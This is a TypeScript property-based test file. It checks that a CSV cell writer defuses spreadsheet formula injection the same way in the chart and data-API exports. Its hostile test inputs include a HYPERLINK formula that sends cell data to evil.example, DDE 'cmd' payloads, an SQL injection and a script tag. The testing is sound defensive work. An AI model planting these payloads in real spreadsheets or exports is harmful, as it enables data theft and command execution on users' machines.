import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, neutraliseFormula } from "./csv-cell";
import { csvCell as chartCell } from "../charts/csv";
import { csvField as apiField } from "../indicators/csv";

/** Text a spreadsheet would run: what an attacker types into a free-text field. */
const hostile = fc.oneof(
  fc.string({ unit: "binary", maxLength: 200 }),
  fc.constantFrom("=", "+", "-", "@", "\t", "\r").chain((start) => fc.string({ maxLength: 60 }).map((rest) => start + rest)),
  fc.constantFrom('=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "\t=1+1", "'; drop table users; --", "<script>alert(1)</script>"),
);

describe("a CSV cell", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["-12.5", "-12.5"],
    ["-", "-"],
    ["+44", "+44"],
    ["a, b", '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    [" padded ", '" padded "'],
  ])("writes %j as %j", (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each([
    [-3.5, "-3.5"],
    [Number.NaN, ""],
    [Number.POSITIVE_INFINITY, ""],
    [null, ""],
    [undefined, ""],
  ])("writes the number or gap %s as %j", (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it("never lets a cell start like a formula when read back, and loses nothing but the guard apostrophe", () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), (cells) => {
        const line = cells.map(csvCell).join(",");
        const [read] = parse(`${line}\r\n`, { relax_quotes: false }) as string[][];
        expect(read).toHaveLength(cells.length);
        read!.forEach((text, i) => {
          const original = cells[i]!;
          const runnable = /^[=+\-@\t\r]/.test(text) && text !== "-" && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(text);
          expect(runnable, `cell ${JSON.stringify(text)} from ${JSON.stringify(original)}`).toBe(false);
          expect(text).toBe(neutraliseFormula(original));
        });
      }),
      { numRuns: 2_000, seed: 20_261_128 },
    );
  });

  it("is the same rule in the chart tables and the data API", () => {
    fc.assert(
      fc.property(hostile, (value) => {
        expect(chartCell(value)).toBe(csvCell(value));
        expect(apiField(value)).toBe(csvCell(value));
      }),
      { numRuns: 1_000, seed: 20_261_128 },
    );
  });
});
